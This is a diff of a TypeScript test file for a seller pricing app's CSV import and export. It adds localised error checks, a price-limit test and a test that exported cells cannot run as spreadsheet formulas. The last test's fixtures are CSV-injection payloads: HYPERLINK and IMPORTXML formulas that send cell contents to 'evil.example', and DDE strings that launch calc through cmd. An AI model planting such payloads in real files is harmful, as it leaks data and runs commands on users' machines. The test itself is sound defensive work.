@@ -1,4 +1,10 @@
 import { afterEach, describe, expect, it } from 'vitest';
+import { msg, renderMessage } from '../../../src-shared/i18n';
+import type { Message } from '../../../src-shared/i18n';
+
+/** Messages as the Russian seller reads them. */
+const ru = (messages: Message[]) => messages.map((m) => renderMessage(m, 'ru'));
+const billion = '1\u202F000\u202F000\u202F000\u00A0₸';
 import type { Database } from 'better-sqlite3';
 import { createRulesService } from '../../../src-main/rules/rules-service';
 import { createRulesCsv } from '../../../src-main/rules/rules-csv';
@@ -49,10 +55,12 @@ describe('rules CSV import and export over SQLite', () => {
     const byLine = new Map(preview.rows.map((r) => [r.line, r]));
     expect(byLine.get(2)).toMatchObject({ sku: 'A1', errors: [], changes: [{ field: 'floor', from: '10\u202F000\u00A0₸', to: '10\u202F500\u00A0₸' }, { field: 'strategy', from: 'match', to: 'undercut' }] });
     expect(byLine.get(3)).toMatchObject({ errors: [], changes: [{ field: 'ceiling', from: 'none', to: '13\u202F000\u00A0₸' }] });
-    expect(byLine.get(4)!.errors).toEqual(['Минимальная цена: цена должна быть целым числом тенге, без тиынов: «12 990,5»']);
-    expect(byLine.get(5)!.errors).toEqual(['Минимальная цена выше максимальной (11\u202F000\u00A0₸ > 10\u202F000\u00A0₸)']);
-    expect(byLine.get(6)!.errors).toEqual(['Товар с артикулом «Z9» не найден']);
-    expect(byLine.get(7)!.errors).toEqual(['Неизвестная стратегия «Самая низкая»', 'Этот товар уже есть в строке 4']);
+    expect(ru(byLine.get(4)!.errors)).toEqual(['Минимальная цена: цена должна быть целым числом тенге, без тиынов: «12 990,5»']);
+    expect(ru(byLine.get(5)!.errors)).toEqual(['Минимальная цена выше максимальной (11\u202F000\u00A0₸ > 10\u202F000\u00A0₸)']);
+    expect(byLine.get(6)!.errors).toEqual([msg('csv.sku_not_found', { sku: 'Z9' })]);
+    expect(ru(byLine.get(6)!.errors)).toEqual(['Товар с артикулом «Z9» не найден']);
+    expect(byLine.get(6)!.errors.map((m) => renderMessage(m, 'kk'))).toEqual(['«Z9» артикулы бар тауар табылмады']);
+    expect(ru(byLine.get(7)!.errors)).toEqual(['Неизвестная стратегия «Самая низкая»', 'Этот товар уже есть в строке 4']);
 
     const applied = csv.importCsv(file, true);
     expect(applied.applied).toBe(2);
@@ -64,10 +72,19 @@ describe('rules CSV import and export over SQLite', () => {
     expect(changed).toEqual([[ids.get('A1'), ids.get('B2')]]);
   });
 
+  it('refuses a price over 1 billion ₸ in a file, naming the limit', () => {
+    const { csv } = setup();
+    const result = csv.importCsv('SKU;Floor;Ceiling\nA1;10000;5 000 000 000\nB2;99999999999999999;\n', false);
+    expect(result.rows.map((r) => ru(r.errors))).toEqual([
+      [`Максимальная цена: цена не может быть больше ${billion}: «5 000 000 000»`],
+      [`Минимальная цена: цена не может быть больше ${billion}: «99999999999999999»`],
+    ]);
+  });
+
   it('refuses to switch the bot on from a file for a product that gets no floor', () => {
     const { db, ids, csv } = setup();
     const result = csv.importCsv('SKU,Bot\nC3,yes\nB2,yes\n', true);
-    expect(result.rows[0]!.errors).toEqual(['Не задана минимальная цена']);
+    expect(result.rows[0]!.errors).toEqual([msg('rules.no_floor')]);
     expect(result.rows[1]).toMatchObject({ errors: [], changes: [{ field: 'bot', from: 'false', to: 'true' }] });
     expect(result.applied).toBe(1);
     expect(JSON.parse(snapshotOf(db, ids.get('C3')!)).bot_enabled).toBe(0);
@@ -95,13 +112,13 @@ describe('rules CSV import and export over SQLite', () => {
   it('gives a file-level error and writes nothing for an empty, binary or header-less file', () => {
     const { db, ids, csv } = setup();
     const before = all(db, ids);
-    expect(csv.importCsv('', true).fileErrors).toEqual(['Файл пуст']);
-    expect(csv.importCsv(`${BOM}\r\n`, true).fileErrors).toEqual(['Файл пуст']);
-    expect(csv.importCsv('PK\u0003\u0004\u0014\u0000\u0006\u0000binary', true).fileErrors[0]).toMatch(/^Это не CSV-файл/);
-    expect(csv.importCsv('Название;Минимальная цена\nЧайник;100\n', true).fileErrors[0]).toMatch(/^Нет столбца «Артикул»/);
-    expect(csv.importCsv('SKU;Title\nA1;x\n', true).fileErrors[0]).toMatch(/^Нет ни одного столбца с правилами/);
-    expect(csv.importCsv('SKU;Floor\n', true).fileErrors[0]).toMatch(/только заголовок/);
-    expect(csv.importCsv('SKU;Floor\n"A1;100\n', true).fileErrors[0]).toMatch(/незакрытая кавычка/);
+    expect(ru(csv.importCsv('', true).fileErrors)).toEqual(['Файл пуст']);
+    expect(ru(csv.importCsv(`${BOM}\r\n`, true).fileErrors)).toEqual(['Файл пуст']);
+    expect(ru(csv.importCsv('PK\u0003\u0004\u0014\u0000\u0006\u0000binary', true).fileErrors)[0]).toMatch(/^Это не CSV-файл/);
+    expect(ru(csv.importCsv('Название;Минимальная цена\nЧайник;100\n', true).fileErrors)[0]).toMatch(/^Нет столбца «Артикул»/);
+    expect(ru(csv.importCsv('SKU;Title\nA1;x\n', true).fileErrors)[0]).toMatch(/^Нет ни одного столбца с правилами/);
+    expect(ru(csv.importCsv('SKU;Floor\n', true).fileErrors)[0]).toMatch(/только заголовок/);
+    expect(ru(csv.importCsv('SKU;Floor\n"A1;100\n', true).fileErrors)[0]).toMatch(/незакрытая кавычка/);
     expect(all(db, ids)).toEqual(before);
   });
 
@@ -114,11 +131,34 @@ describe('rules CSV import and export over SQLite', () => {
     const rules = createRulesService({ db: seeded.db, now: () => new Date(T0) });
     const csv = createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0) });
     const result = csv.importCsv('SKU;Floor;Store\nX;100;\nX;200;второй\nX;300;2\n', true);
-    expect(result.rows.map((r) => r.errors)).toEqual([
+    expect(result.rows.map((r) => ru(r.errors))).toEqual([
       ['Артикул «X» есть в нескольких магазинах — заполните столбец «Магазин»'],
       [],
       ['Этот товар уже есть в строке 3'],
     ]);
     expect(result.applied).toBe(1);
+  });
+});
+
+describe('rules CSV export with titles and store names a third party controls', () => {
+  // Titles and store names come from Kaspi: anyone selling there writes them.
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted"];
+
+  it('neutralises every cell a spreadsheet would run as a formula, and imports its own file back unchanged', () => {
+    const seeded = seedDatabase(tempDir(), [{
+      name: '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', uid: '30000009',
+      products: HOSTILE.map((title, i) => ({ sku: `-A${i}`, title, rules: { floor: { kind: 'fixed', price: 1000 + i } } })),
+    }]);
+    db = seeded.db;
+    const rules = createRulesService({ db: seeded.db, now: () => new Date(T0) });
+    const csv = createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0) });
+    const text = csv.exportCsv(undefined, 'ru').csv;
+    // A cell opens after the BOM, a separator or a line break (quoted or not): none may open with = + - @ tab or CR.
+    expect(text.replace(BOM, '')).not.toMatch(/(^|;|\r\n)"?[=+\-@\t\r]/);
+    expect(text).toContain(`'-2+3+cmd`);
+
+    const back = csv.importCsv(text, true);
+    expect(back.fileErrors).toEqual([]);
+    expect(back.rows.map((r) => [r.sku, r.errors, r.changes]).sort()).toEqual(HOSTILE.map((_, i) => [`-A${i}`, [], []]));
   });
 });
